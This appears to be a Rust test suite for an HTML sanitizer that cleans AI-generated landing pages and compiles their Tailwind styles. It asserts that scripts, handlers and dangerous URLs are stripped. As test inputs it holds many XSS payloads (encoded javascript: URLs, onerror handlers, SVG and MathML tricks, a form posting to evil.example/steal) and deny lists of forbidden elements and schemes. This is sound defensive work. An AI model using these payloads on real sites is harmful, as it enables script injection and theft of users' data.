//! The sanitizer's behaviour end to end: hand-written cases, the compiled stylesheet, the
//! public XSS corpora in both style modes, and property tests of safety and idempotence over
//! random HTML-ish input.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use proptest::prelude::*;
use scraper::{ElementRef, Html};

use super::render::{PAGE_CSS_END, PAGE_CSS_START};
use super::stylesheet::escape_for_style_element;
use super::{PageStyles, SanitizedHtml, Sanitizer, Styles, TAILWIND_CDN_URL, styles_of};

/// The default mode: compiled styles.
static SANITIZER: LazyLock<Sanitizer> = LazyLock::new(|| Sanitizer::new(Styles::Compiled));
static CDN_SANITIZER: LazyLock<Sanitizer> = LazyLock::new(|| Sanitizer::new(Styles::Cdn));

fn sanitizer(styles: Styles) -> &'static Sanitizer {
    match styles {
        Styles::Compiled => &SANITIZER,
        Styles::Cdn => &CDN_SANITIZER,
    }
}

const BOTH_MODES: [Styles; 2] = [Styles::Compiled, Styles::Cdn];

const LINK_REL: &str = "noopener noreferrer nofollow ugc";

fn sanitize(raw: &str) -> SanitizedHtml {
    SANITIZER.sanitize(raw)
}

/// The cleaned body: what the fixed skeleton has between `<body…>\n` and `\n</body>`.
fn body(page: &SanitizedHtml) -> &str {
    let document = page.as_str();
    let start = document
        .find("<body")
        .and_then(|tag| document[tag..].find(">\n").map(|end| tag + end + 2))
        .expect("a <body> start tag");
    let end = document.rfind("\n</body>").expect("a </body> end tag");
    &document[start..end]
}

fn body_of(raw: &str) -> String {
    body(&sanitize(raw)).to_owned()
}

/// The text of the page's one `<style>` element (compiled mode).
fn stylesheet(page: &SanitizedHtml) -> &str {
    match styles_of(page.as_str()) {
        PageStyles::Inline(css) => css,
        other => panic!("expected an inline stylesheet, got {other:?}"),
    }
}

fn elements(parsed: &Html) -> impl Iterator<Item = ElementRef<'_>> {
    parsed
        .tree
        .root()
        .descendants()
        .filter_map(ElementRef::wrap)
}

fn is_inside_head(element: &ElementRef<'_>) -> bool {
    element
        .ancestors()
        .filter_map(ElementRef::wrap)
        .any(|ancestor| ancestor.value().name() == "head")
}

/// Elements that must never appear in a page's body, whatever the input.
#[rustfmt::skip]
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "iframe", "object", "embed", "base", "link", "foreignobject", "animate",
    "animatemotion", "animatetransform", "animatecolor", "set", "use", "image", "frame",
    "frameset", "applet", "math", "template", "noscript", "xmp", "plaintext", "noembed",
    "noframes",
];

/// Attributes whose value a browser may navigate to or load.
#[rustfmt::skip]
const URL_ATTRIBUTES: &[&str] = &[
    "href", "xlink:href", "src", "action", "formaction", "data", "poster", "srcset", "ping",
    "background", "cite",
];

const DANGEROUS_SCHEMES: &[&str] = &["javascript:", "vbscript:", "data:"];

/// Everything a page written by `SANITIZER` must satisfy whatever `input` was.
fn assert_safe(page: &SanitizedHtml, input: &str) {
    assert_safe_in(Styles::Compiled, page, input);
}

/// Everything a page must satisfy whatever `input` was; panics naming `input` otherwise.
///
/// In both modes: nothing forbidden, no handler, no script URL, one title and two metas in the
/// head, and sanitizing the page again gives the same page. Compiled: not one script, exactly
/// one `<style>`, in the head, with no `</` in it. CDN: exactly one script, the pinned CDN
/// file, in the head, and no `<style>`.
/// The page's own CSS in a written stylesheet loads nothing but https and data images and
/// fonts, and holds none of the legacy ways of running script.
fn assert_safe_page_css(stylesheet: &str, context: &dyn Fn() -> String) {
    let (_, rest) = stylesheet
        .split_once(PAGE_CSS_START)
        .unwrap_or_else(|| panic!("no page CSS markers\n{}", context()));
    let (own, _) = rest
        .split_once(PAGE_CSS_END)
        .unwrap_or_else(|| panic!("no end of the page CSS\n{}", context()));
    let own = own.to_ascii_lowercase();
    for forbidden in [
        "javascript",
        "expression(",
        "@import",
        "behavior",
        "binding",
    ] {
        assert!(
            !own.contains(forbidden),
            "{forbidden} in the page CSS {own}\n{}",
            context()
        );
    }
    for (at, _) in own.match_indices("url(") {
        let target = own[at + 4..].trim_start_matches(['"', '\'']);
        assert!(
            [
                "https:",
                "data:image/",
                "data:font/",
                "data:application/font",
                "data:application/x-font"
            ]
            .iter()
            .any(|allowed| target.starts_with(allowed)),
            "url to {target} in the page CSS\n{}",
            context()
        );
    }
}

fn assert_safe_in(styles: Styles, page: &SanitizedHtml, input: &str) {
    let document = page.as_str();
    let context = || format!("mode: {styles:?}\ninput: {input}\npage: {document}");
    let lowercase = document.to_ascii_lowercase();
    let expected_script_tags = match styles {
        Styles::Compiled => 0,
        Styles::Cdn => 1,
    };
    assert_eq!(
        lowercase.matches("<script").count(),
        expected_script_tags,
        "{}",
        context()
    );
    match (styles, styles_of(document)) {
        (Styles::Compiled, PageStyles::Inline(css)) => {
            assert!(!css.contains("</"), "`</` in the stylesheet\n{}", context());
            assert_safe_page_css(css, &context);
        }
        (Styles::Cdn, PageStyles::Cdn) => {}
        (_, found) => panic!("styles {found:?} in a {styles:?} page\n{}", context()),
    }

    let parsed = Html::parse_document(document);
    let (mut scripts, mut stylesheets, mut metas, mut titles) = (0, 0, 0, 0);
    for element in elements(&parsed) {
        let name = element.value().name().to_ascii_lowercase();
        let context = || format!("<{name}> in\n{}", context());
        assert!(
            !FORBIDDEN_ELEMENTS.contains(&name.as_str()),
            "forbidden {}",
            context()
        );
        let counter = match name.as_str() {
            "script" => {
                assert_eq!(element.attr("src"), Some(TAILWIND_CDN_URL), "{}", context());
                Some(&mut scripts)
            }
            "style" => Some(&mut stylesheets),
            "meta" => Some(&mut metas),
            "title" => Some(&mut titles),
            _ => None,
        };
        if let Some(counter) = counter {
            *counter += 1;
            assert!(is_inside_head(&element), "{}", context());
        }
        for (attribute, value) in element.value().attrs() {
            let attribute = attribute.to_ascii_lowercase();
            assert!(!attribute.starts_with("on"), "{attribute} on {}", context());
            if URL_ATTRIBUTES.contains(&attribute.as_str()) {
                let normalized: String = value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>()
                    .to_lowercase();
                for scheme in DANGEROUS_SCHEMES {
                    assert!(
                        !normalized.contains(scheme),
                        "{attribute}={value:?} on {}",
                        context()
                    );
                }
            }
        }
    }
    assert_eq!(
        (scripts, stylesheets, metas, titles),
        (expected_script_tags, 1 - expected_script_tags, 2, 1),
        "(scripts, stylesheets, metas, titles) in\n{}",
        context()
    );

    assert_eq!(
        &sanitizer(styles).sanitize(document),
        page,
        "not idempotent on input: {input}"
    );
}

/// Elements of a fragment with their attributes, in document order, to compare markup up to
/// attribute order and quoting. The `rel` that links get is left out.
fn outline(fragment: &str) -> Vec<(String, BTreeMap<String, String>)> {
    let parsed = Html::parse_fragment(fragment);
    let root = parsed.root_element();
    root.descendent_elements()
        .filter(|element| element.id() != root.id())
        .map(|element| {
            let attributes = element
                .value()
                .attrs()
                .filter(|(name, _)| *name != "rel")
                .map(|(name, value)| (name.to_owned(), value.to_owned()))
                .collect();
            (element.value().name().to_owned(), attributes)
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Finding the document

#[test]
fn a_fenced_document_loses_its_fence() {
    let page = sanitize(
        "```html\n<!DOCTYPE html>\n<html lang=\"en\"><head><title>Shop</title></head>\
         <body><h1>Welcome</h1></body></html>\n```",
    );
    assert_eq!(page.title(), "Shop");
    assert_eq!(body(&page), "<h1>Welcome</h1>");
    assert!(!page.as_str().contains('`'));
}

#[test]
fn prose_before_and_after_the_document_is_dropped() {
    let page = sanitize(
        "Sure! Here is your landing page:\n\n```html\n<!doctype html><html><body><p>Hi</p>\
         </body></html>\n```\n\nThis page uses a hero section.",
    );
    assert_eq!(body(&page), "<p>Hi</p>");
    assert!(!page.as_str().contains("Sure"));
    assert!(!page.as_str().contains("hero section"));
}

#[test]
fn markup_without_html_head_or_body_becomes_the_body() {
    let page = sanitize("<h1>Hello</h1><p>World</p>");
    assert_eq!(page.title(), "Hello");
    assert_eq!(body(&page), "<h1>Hello</h1><p>World</p>");
    assert!(page.as_str().contains("<html lang=\"en\">"));
    assert!(page.as_str().contains("<body>\n"));
}

#[test]
fn a_fenced_fragment_without_html_tags_becomes_the_body() {
    let page = sanitize("Here you go:\n```html\n<section><p>Hi</p></section>\n```\nBye!");
    assert_eq!(body(&page), "<section><p>Hi</p></section>");
}

#[test]
fn plain_text_becomes_the_body_text() {
    let page = sanitize("Just <words> & more");
    assert_eq!(body(&page), "Just  &amp; more");
    assert_eq!(page.title(), "Untitled page");
}

#[test]
fn empty_input_gives_an_empty_untitled_page() {
    let page = sanitize("");
    assert_eq!(page.title(), "Untitled page");
    assert_eq!(body(&page), "");
    assert_safe(&page, "");
}

#[test]
fn a_document_cut_anywhere_gives_a_safe_stable_prefix() {
    let document = "```html\n<!DOCTYPE html><html lang=\"de\"><head><title>Cut &amp; paste\
        </title><script>alert(1)</script><style>body{}</style></head><body class=\"bg-white\">\
        <!-- note --><h1 class=\"text-3xl\">Hallo</h1><img src=\"https://example.com/a.png\" \
        onerror=\"alert(1)\" alt=\"A\"><a href=\"javascript:alert(1)\">x</a><pre>\n\ncode\
        </pre><svg viewBox=\"0 0 24 24\"><path d=\"M0 0h24\"/></svg><p>Ende</p></body></html>\n```";
    for (cut, _) in document.char_indices() {
        let prefix = &document[..cut];
        assert_safe(&sanitize(prefix), prefix);
    }
}

#[test]
fn a_truncated_document_keeps_what_was_written_so_far() {
    let page = sanitize(
        "```html\n<!DOCTYPE html><html><head><title>Half</title></head><body><h1>Hi</h1><p>Wor",
    );
    assert_eq!(page.title(), "Half");
    assert_eq!(body(&page), "<h1>Hi</h1><p>Wor</p>");
}

#[test]
fn a_tag_cut_mid_attribute_is_not_emitted() {
    let page = sanitize("<p>Hi</p><img src=\"https://example.com/a.png\" onerror=\"alert(1");
    assert_eq!(body(&page), "<p>Hi</p>");
}

// ---------------------------------------------------------------------------------------------
// Title, language, body classes

#[test]
fn the_title_is_escaped_in_the_head() {
    let page = sanitize("<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>");
    assert_eq!(page.title(), "</title><script>alert(1)</script>");
    assert!(
        page.as_str()
            .contains("<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>")
    );
    assert_safe(&page, "escaped title");
}

#[test]
fn a_script_after_the_title_does_not_survive() {
    let page = sanitize("<title>a</title><script>alert(1)</script><p>x</p>");
    assert_eq!(page.title(), "a");
    assert_eq!(body(&page), "<p>x</p>");
    assert_safe(&page, "script after title");
}

#[test]
fn an_escaped_script_in_the_title_stays_text() {
    let page = sanitize("<title>&lt;script&gt;</title>");
    assert_eq!(page.title(), "<script>");
    assert!(page.as_str().contains("<title>&lt;script&gt;</title>"));
    assert_safe(&page, "escaped script title");
}

#[test]
fn the_title_does_not_leak_into_the_body() {
    let page = sanitize(
        "<html><head><title>Secret Title</title></head><body><p>Body</p>\
         <title>Second title</title></body></html>",
    );
    assert_eq!(page.title(), "Secret Title");
    assert_eq!(body(&page), "<p>Body</p>");
}

#[test]
fn the_title_is_collapsed_and_capped() {
    let page = sanitize(&format!(
        "<title>\n  A\t\tlong   {} </title>",
        "word ".repeat(100)
    ));
    assert!(page.title().starts_with("A long word word"));
    assert!(page.title().chars().count() <= 200);
    assert!(!page.title().ends_with(' '));
    assert_eq!(sanitize(page.as_str()).title(), page.title());
}

#[test]
fn without_a_title_the_first_heading_names_the_page() {
    let page =
        sanitize("<title> </title><h2>No</h2><h1>Big <em>news</em><script>x()</script></h1>");
    assert_eq!(page.title(), "Big news");
    assert!(page.as_str().contains("<title>Big news</title>"));
}

#[test]
fn without_title_or_heading_the_page_is_untitled() {
    assert_eq!(sanitize("<p>Nothing to see</p>").title(), "Untitled page");
    assert_eq!(sanitize("<h1>  </h1>").title(), "Untitled page");
}

#[test]
fn lang_and_root_classes_are_kept() {
    let page = sanitize(
        "<html lang=\"pt-BR\" class=\"h-full scroll-smooth x\\\" onload\"><body \
         class=\"min-h-screen bg-slate-50 md:flex text-[#333]\">x</body></html>",
    );
    assert!(
        page.as_str()
            .contains("<html lang=\"pt-BR\" class=\"h-full scroll-smooth\">"),
        "{}",
        page.as_str()
    );
    assert!(
        page.as_str()
            .contains("<body class=\"min-h-screen bg-slate-50 md:flex text-[#333]\">\n")
    );
}

#[test]
fn an_invalid_lang_falls_back_to_english() {
    for lang in ["\" onload=\"x", "en_US", "", "toolonglang"] {
        let page = sanitize(&format!("<html lang='{lang}'><body>x</body></html>"));
        assert!(page.as_str().contains("<html lang=\"en\">"), "{lang}");
    }
}

#[test]
fn a_hostile_body_class_cannot_leave_its_attribute() {
    for (raw, body_tag) in [
        (
            "<body class=\"x&quot; onload=&quot;alert(1)\">x</body>",
            "<body>",
        ),
        (
            "<body class=\"x\\\" onload=\\\"alert(1)\">x</body>",
            "<body>",
        ),
        (
            "<body class=\"x\" onload=\"alert(1)\">x</body>",
            "<body class=\"x\">",
        ),
        ("<body class='a<b>c x'>x</body>", "<body class=\"x\">"),
    ] {
        let page = sanitize(raw);
        assert_safe(&page, raw);
        assert!(
            page.as_str().contains(&format!("{body_tag}\n")),
            "{raw}\n{}",
            page.as_str()
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Scripts, handlers, URLs

#[test]
fn event_handlers_are_removed() {
    let raw = "<body onload=\"alert(1)\"><div onclick=\"alert(1)\" class=\"p-4\" \
               ONMOUSEOVER=alert(1)>x</div><img src=\"https://example.com/a.png\" \
               onerror=\"alert(1)\"><svg onload=\"alert(1)\"></svg></body>";
    let page = sanitize(raw);
    assert_eq!(
        body(&page),
        "<div class=\"p-4\">x</div><img src=\"https://example.com/a.png\"><svg></svg>"
    );
    assert_safe(&page, raw);
}

#[test]
fn script_urls_are_removed_however_they_are_spelled() {
    for url in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "  javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#x0A;ascript:alert(1)",
        "jav\tascript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "javascript&colon;alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
    ] {
        let raw = format!("<a href=\"{url}\">x</a><img src=\"{url}\" alt=\"i\">");
        assert_eq!(
            body_of(&raw),
            format!("<a rel=\"{LINK_REL}\">x</a><img alt=\"i\">"),
            "{url}"
        );
    }
}

#[test]
fn relative_urls_are_dropped_but_in_page_anchors_are_kept() {
    for url in [
        "/admin",
        "page.html",
        "../up",
        "//evil.example/x",
        "?q=1",
        "",
    ] {
        let raw = format!("<a href=\"{url}\">x</a>");
        assert_eq!(
            body_of(&raw),
            format!("<a rel=\"{LINK_REL}\">x</a>"),
            "{url:?}"
        );
    }
    assert_eq!(
        body_of("<a href=\"#pricing\">Pricing</a>"),
        format!("<a href=\"#pricing\" rel=\"{LINK_REL}\">Pricing</a>")
    );
}

#[test]
fn http_mail_and_phone_links_are_kept_with_a_safe_rel() {
    for url in [
        "https://example.com/a?b=c#d",
        "http://example.com/",
        "mailto:hi@example.com",
        "tel:+15551234",
    ] {
        let raw = format!("<a href=\"{url}\" target=\"_blank\" rel=\"opener\">x</a>");
        assert_eq!(
            body_of(&raw),
            format!("<a href=\"{url}\" rel=\"{LINK_REL}\">x</a>")
        );
    }
}

#[test]
fn forms_lose_their_actions() {
    let raw = "<form action=\"https://evil.example/steal\" method=\"post\" target=\"_blank\" \
               class=\"space-y-2\"><label for=\"e\">Email</label><input id=\"e\" type=\"email\" \
               name=\"email\" placeholder=\"you@example.com\" required pattern=\".*\" \
               formaction=\"https://evil.example\"><button type=\"submit\" \
               formaction=\"javascript:alert(1)\" formmethod=\"post\">Go</button></form>";
    assert_eq!(
        body_of(raw),
        "<form class=\"space-y-2\"><label for=\"e\">Email</label><input id=\"e\" \
         name=\"email\" placeholder=\"you@example.com\" required=\"\" type=\"email\">\
         <button type=\"submit\">Go</button></form>"
    );
}

#[test]
fn scripts_and_embedded_documents_are_removed_with_their_content() {
    let raw = "<p>a</p><script>alert(1)</script><iframe src=\"https://evil.example\">x</iframe>\
               <object data=\"x.swf\"><p>fallback</p></object><embed src=\"x.swf\">\
               <noscript><p>no</p></noscript><template><p>t</p></template>\
               <style>body{display:none}</style><p>b</p>";
    assert_eq!(body_of(raw), "<p>a</p><p>b</p>");
}

#[test]
fn base_meta_and_link_are_removed_from_head_and_body() {
    let raw = "<html><head><base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" \
               content=\"0;url=https://evil.example\"><link rel=\"stylesheet\" \
               href=\"https://evil.example/x.css\"><script src=\"https://evil.example/x.js\">\
               </script></head><body><base href=\"https://evil.example/\"><meta \
               http-equiv=\"refresh\" content=\"0\"><link rel=\"import\" href=\"x\"><p>ok</p>\
               </body></html>";
    let page = sanitize(raw);
    assert_eq!(body(&page), "<p>ok</p>");
    assert!(!page.as_str().contains("evil"));
    assert_safe(&page, raw);
}

// ---------------------------------------------------------------------------------------------
// SVG

const ICON: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" fill=\"none\" viewBox=\"0 0 24 24\" \
    stroke-width=\"1.5\" stroke=\"currentColor\" class=\"h-6 w-6 text-indigo-600\" \
    aria-hidden=\"true\"><defs><linearGradient id=\"g\" x1=\"0\" y1=\"0\" x2=\"1\" y2=\"1\" \
    gradientUnits=\"objectBoundingBox\"><stop offset=\"0%\" stop-color=\"#6366f1\"></stop>\
    <stop offset=\"100%\" stop-color=\"#ec4899\" stop-opacity=\"0.8\"></stop></linearGradient>\
    </defs><path stroke-linecap=\"round\" stroke-linejoin=\"round\" \
    d=\"M9.813 15.904 9 18.75l-.813-2.846\" fill=\"url(#g)\"></path><circle cx=\"12\" \
    cy=\"12\" r=\"3\"></circle></svg>";

#[test]
fn an_svg_icon_with_a_gradient_survives_intact() {
    let cleaned = body_of(ICON);
    assert!(cleaned.contains(" viewBox=\"0 0 24 24\""), "{cleaned}");
    assert!(cleaned.contains("<linearGradient "), "{cleaned}");
    assert!(
        cleaned.contains(" gradientUnits=\"objectBoundingBox\""),
        "{cleaned}"
    );
    assert_eq!(outline(&cleaned), outline(ICON));
}

#[test]
fn svg_animation_use_and_foreign_object_are_removed() {
    let cases = [
        "<svg><animate onbegin=\"alert(1)\" attributeName=\"x\" dur=\"1s\"></animate></svg>",
        "<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"></animate>\
         <text x=\"20\" y=\"20\">click</text></a></svg>",
        "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"></set></svg>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x\"></use></svg>",
        "<svg><use xlink:href=\"https://evil.example/sprite.svg#icon\"></use></svg>",
        "<svg><image href=\"https://evil.example/x.svg\"></image></svg>",
        "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">\
         </iframe><p>hi</p></foreignObject></svg>",
        "<svg><script>alert(1)</script><style>*{}</style></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    ];
    for raw in cases {
        let page = sanitize(raw);
        assert_safe(&page, raw);
        let cleaned = body(&page);
        assert!(
            cleaned.starts_with("<svg>") && cleaned.ends_with("</svg>"),
            "{raw}\n{cleaned}"
        );
        assert!(
            !cleaned.contains("alert") && !cleaned.contains("evil"),
            "{raw}\n{cleaned}"
        );
    }
}

#[test]
fn mathml_is_removed_with_its_content() {
    let raw = "<p>a</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>\
               </style></mglyph></table></mtext></math><math href=\"javascript:alert(1)\">\
               <mi>x</mi></math><p>b</p>";
    let page = sanitize(raw);
    assert_eq!(body(&page), "<p>a</p><p>b</p>");
    assert_safe(&page, raw);
}

// ---------------------------------------------------------------------------------------------
// Styles and classes

#[test]
fn style_attributes_keep_only_presentational_properties() {
    assert_eq!(
        body_of(
            "<p style=\"color: red; background-image: url(https://evil.example/x.png); \
             font-weight: 700\">x</p>"
        ),
        "<p style=\"color:red;font-weight:700\">x</p>"
    );
    assert_eq!(
        body_of(
            "<p style=\"behavior: url(x.htc); -moz-binding: url(x.xml#x); \
             background: url(javascript:alert(1))\">x</p>"
        ),
        "<p style=\"\">x</p>"
    );
    assert_eq!(
        body_of(
            "<span class=\"material-symbols-outlined\" \
             style=\"font-variation-settings: 'FILL' 1;\">play_circle</span>"
        ),
        "<span class=\"material-symbols-outlined\" \
         style=\"font-variation-settings:&quot;FILL&quot; 1\">play_circle</span>",
        "an icon font's settings"
    );
}

const LANDING_BODY: &str = r##"<header class="sticky top-0 z-50 bg-white/80 backdrop-blur border-b border-slate-200"><nav class="mx-auto flex max-w-7xl items-center justify-between px-6 py-4" aria-label="Main"><a href="#top" class="text-xl font-bold tracking-tight text-slate-900">Acme</a><ul class="hidden gap-8 md:flex"><li><a href="#features" class="text-sm font-medium text-slate-600 hover:text-slate-900">Features</a></li><li><a href="#pricing" class="text-sm font-medium text-slate-600 hover:text-slate-900">Pricing</a></li></ul></nav></header><main id="top"><section class="relative overflow-hidden bg-gradient-to-br from-indigo-600 via-purple-600 to-pink-500 py-24 text-white"><div class="mx-auto max-w-3xl px-6 text-center"><h1 class="text-4xl font-extrabold sm:text-6xl">Ship faster</h1><p class="mt-6 text-lg leading-8 text-indigo-100">Everything you need, nothing you don't.</p><div class="mt-10 flex items-center justify-center gap-x-6"><a href="https://example.com/signup" class="rounded-md bg-white px-3.5 py-2.5 text-sm font-semibold text-indigo-600 shadow-sm hover:bg-indigo-50 focus-visible:outline focus-visible:outline-2 focus-visible:outline-offset-2">Get started</a><a href="#features" class="text-sm font-semibold leading-6">Learn more <span aria-hidden="true">→</span></a></div></div></section><section id="features" class="py-24"><div class="mx-auto grid max-w-7xl grid-cols-1 gap-8 px-6 md:grid-cols-3"><div class="rounded-2xl border border-slate-200 p-8 shadow-sm"><svg class="h-8 w-8 text-indigo-600" fill="none" viewBox="0 0 24 24" stroke="currentColor" stroke-width="2"><path stroke-linecap="round" stroke-linejoin="round" d="M13 10V3L4 14h7v7l9-11h-7z"></path></svg><h3 class="mt-4 text-lg font-semibold">Fast</h3><p class="mt-2 text-slate-600">Built on the edge.</p></div><div class="rounded-2xl border border-slate-200 p-8 shadow-sm"><img src="https://images.unsplash.com/photo-1?w=800&amp;q=80" alt="Team" class="aspect-video w-full rounded-lg object-cover" loading="lazy"><h3 class="mt-4 text-lg font-semibold">Friendly</h3></div></div></section><section id="pricing" class="bg-slate-50 py-24"><table class="mx-auto w-full max-w-3xl text-left"><thead><tr><th scope="col" class="py-2">Plan</th><th scope="col">Price</th></tr></thead><tbody><tr><td class="py-2">Pro</td><td>$19<sup>/mo</sup></td></tr></tbody></table><form class="mx-auto mt-8 flex max-w-md gap-x-4"><label for="email" class="sr-only">Email</label><input id="email" name="email" type="email" autocomplete="email" required class="min-w-0 flex-auto rounded-md px-3.5 py-2 ring-1 ring-inset ring-slate-300 focus:ring-2 focus:ring-indigo-600" placeholder="Enter your email"><button type="submit" class="flex-none rounded-md bg-indigo-600 px-3.5 py-2.5 text-sm font-semibold text-white">Notify me</button></form></section></main><footer class="border-t border-slate-200 py-10 text-center text-sm text-slate-500"><p>© 2025 Acme, Inc. <a href="mailto:hello@acme.example" class="underline">Contact</a></p></footer>"##;

#[test]
fn a_tailwind_landing_page_round_trips_with_its_classes() {
    let raw = format!(
        "```html\n<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"UTF-8\">\n\
         <title>Acme — Ship faster</title>\n<script src=\"https://cdn.tailwindcss.com\"></script>\n\
         <script>tailwind.config = {{ theme: {{ extend: {{}} }} }}</script>\n</head>\n\
         <body class=\"bg-white text-slate-900 antialiased\">\n{LANDING_BODY}\n</body>\n</html>\n```"
    );
    let page = sanitize(&raw);
    assert_eq!(page.title(), "Acme — Ship faster");
    assert!(
        page.as_str()
            .contains("<body class=\"bg-white text-slate-900 antialiased\">")
    );
    assert_eq!(outline(body(&page)), outline(LANDING_BODY));
    assert_safe(&page, &raw);
}

#[test]
fn preformatted_text_keeps_its_leading_line_feeds() {
    let page = sanitize("<pre>\n\n  indented</pre><textarea>\n\nnote</textarea>");
    let parsed = Html::parse_document(page.as_str());
    let texts: Vec<String> = elements(&parsed)
        .filter(|element| matches!(element.value().name(), "pre" | "textarea"))
        .map(|element| element.text().collect())
        .collect();
    assert_eq!(texts, ["\n  indented", "\nnote"]);
    assert_eq!(sanitize(page.as_str()), page);
}

// ---------------------------------------------------------------------------------------------
// Compiled styles

/// The stylesheet of a page with no classes: the preflight and the v3 base.
fn base_stylesheet() -> String {
    stylesheet(&sanitize("<p>x</p>")).to_owned()
}

#[test]
fn a_compiled_page_inlines_the_css_its_classes_need_and_no_script() {
    let page = sanitize(&format!(
        "<html lang=\"en\"><body>{LANDING_BODY}</body></html>"
    ));
    let css = stylesheet(&page);
    for rule in [
        "box-sizing: border-box;",
        "border-color: #e5e7eb;",
        ".bg-gradient-to-br {",
        ".from-indigo-600 {",
        ".rounded-2xl {",
        ".max-w-7xl {",
        ".hover\\:text-slate-900:hover {",
        "@media (width >= 48rem) {\n  .md\\:grid-cols-3 {",
        ".focus-visible\\:outline-2:focus-visible {",
        ".tracking-tight {",
        ".backdrop-blur {",
        ".ring-1 {",
    ] {
        assert!(css.contains(rule), "no {rule:?} in\n{css}");
    }
    assert!(!page.as_str().contains("<script"));
    assert_safe(&page, LANDING_BODY);
}

/// Class names that models trained on Tailwind v3 write all the time; each must get a rule.
#[rustfmt::skip]
const V3_CLASSES: &[&str] = &[
    "container", "mx-auto", "max-w-7xl", "max-w-prose", "min-h-screen", "w-1/2", "h-screen",
    "size-10", "size-[18px]", "flex", "inline-flex", "grid", "hidden", "flex-col", "flex-wrap",
    "flex-1", "flex-grow", "flex-shrink-0", "shrink-0", "items-center", "justify-between",
    "gap-4", "gap-x-8", "space-y-4", "space-x-2", "divide-y", "divide-gray-200",
    "grid-cols-1", "md:grid-cols-3", "lg:grid-cols-4", "col-span-2", "p-4", "px-6", "py-12",
    "mt-2", "-mt-4", "py-0.5", "lg:py-32", "text-sm", "text-4xl", "md:text-5xl", "sm:text-6xl",
    "font-semibold", "font-bold", "font-serif", "leading-tight", "leading-8",
    "tracking-tight", "tracking-widest", "text-center", "uppercase", "underline",
    "underline-offset-4", "truncate", "line-clamp-3", "antialiased", "text-balance",
    "text-white", "text-slate-600", "text-gray-900", "text-indigo-600", "text-white/80",
    "bg-white", "bg-slate-950", "bg-indigo-50", "bg-black/50", "bg-white/10",
    "bg-gradient-to-r", "bg-gradient-to-br", "from-indigo-600", "via-purple-600",
    "to-pink-500", "bg-clip-text", "text-transparent", "bg-cover", "bg-center",
    "border", "border-2", "border-t", "border-gray-200", "border-white/10", "border-dashed",
    "rounded", "rounded-md", "rounded-lg", "rounded-2xl", "rounded-full", "rounded-t-lg",
    "shadow", "shadow-sm", "shadow-lg", "shadow-xl", "shadow-2xl", "shadow-inner",
    "shadow-indigo-500/50", "ring-1", "ring-2", "ring-inset", "ring-gray-900/5",
    "ring-offset-2", "focus:ring-2", "focus:ring-indigo-500", "outline-none",
    "focus:outline-none", "focus-visible:outline-2", "opacity-75", "blur", "blur-3xl",
    "backdrop-blur", "backdrop-blur-md", "drop-shadow", "transition", "transition-colors",
    "duration-300", "ease-in-out", "transform", "hover:scale-105", "hover:-translate-y-1",
    "rotate-45", "animate-pulse", "relative", "absolute", "sticky", "inset-0", "top-0",
    "-z-10", "z-50", "z-[100]", "overflow-hidden", "object-cover", "aspect-video",
    "aspect-[4/3]", "cursor-pointer", "list-disc", "sr-only", "hover:bg-indigo-700",
    "hover:text-white", "hover:underline", "group-hover:opacity-100", "active:bg-indigo-800",
    "disabled:opacity-50", "placeholder:text-gray-400", "first:pt-0", "dark:bg-gray-900",
    "md:flex", "md:hidden", "lg:block", "max-md:hidden", "fill-current", "stroke-2",
    "h-[500px]", "text-[#1e293b]", "bg-[#0f172a]", "grid-cols-[1fr_2fr]", "max-w-[1200px]",
    "shadow-[0_0_20px_rgba(0,0,0,0.1)]", "tracking-[0.2em]", "min-h-[80vh]",
];

#[test]
fn tailwind_v3_classes_that_models_write_all_get_rules() {
    let base = base_stylesheet();
    let missing: Vec<&str> = V3_CLASSES
        .iter()
        .copied()
        .filter(|class| {
            let page = sanitize(&format!("<p class=\"{class}\">x</p>"));
            stylesheet(&page).len() <= base.len()
        })
        .collect();
    assert!(missing.is_empty(), "no rule for {missing:?}");
}

#[test]
fn v3_names_get_v3_values_and_work_with_variants() {
    let css = stylesheet(&sanitize(
        "<p class=\"rounded md:rounded shadow focus:outline-none flex-shrink-0 size-10\">x</p>",
    ))
    .to_owned();
    for rule in [
        ".rounded {\n  border-radius: 0.25rem;",
        ".md\\:rounded {\n    border-radius: 0.25rem;",
        ".focus\\:outline-none:focus {\n  outline: 2px solid transparent;",
        ".flex-shrink-0 {\n  flex-shrink: 0;",
        ".size-10 {\n  width: 2.5rem;\n  height: 2.5rem;",
    ] {
        assert!(css.contains(rule), "no {rule:?} in\n{css}");
    }
}

#[test]
fn classes_the_cleaner_removed_get_no_rules() {
    let page = sanitize(
        "<script>document.body.className = 'bg-fuchsia-700'</script>\
         <p data-classes=\"text-lime-300\" onclick=\"bg-amber-900\">x</p>\
         <template><p class=\"text-rose-950\">t</p></template>",
    );
    let css = stylesheet(&page);
    for class in [
        "bg-fuchsia-700",
        "text-lime-300",
        "bg-amber-900",
        "text-rose-950",
    ] {
        assert!(!css.contains(class), "{class} in\n{css}");
    }
}

#[test]
fn a_class_cannot_close_the_style_element() {
    let raw = "<p class=\"grid-cols-[</style><script>alert(1)</script>] [&_a<b]:flex\">x</p>";
    let page = sanitize(raw);
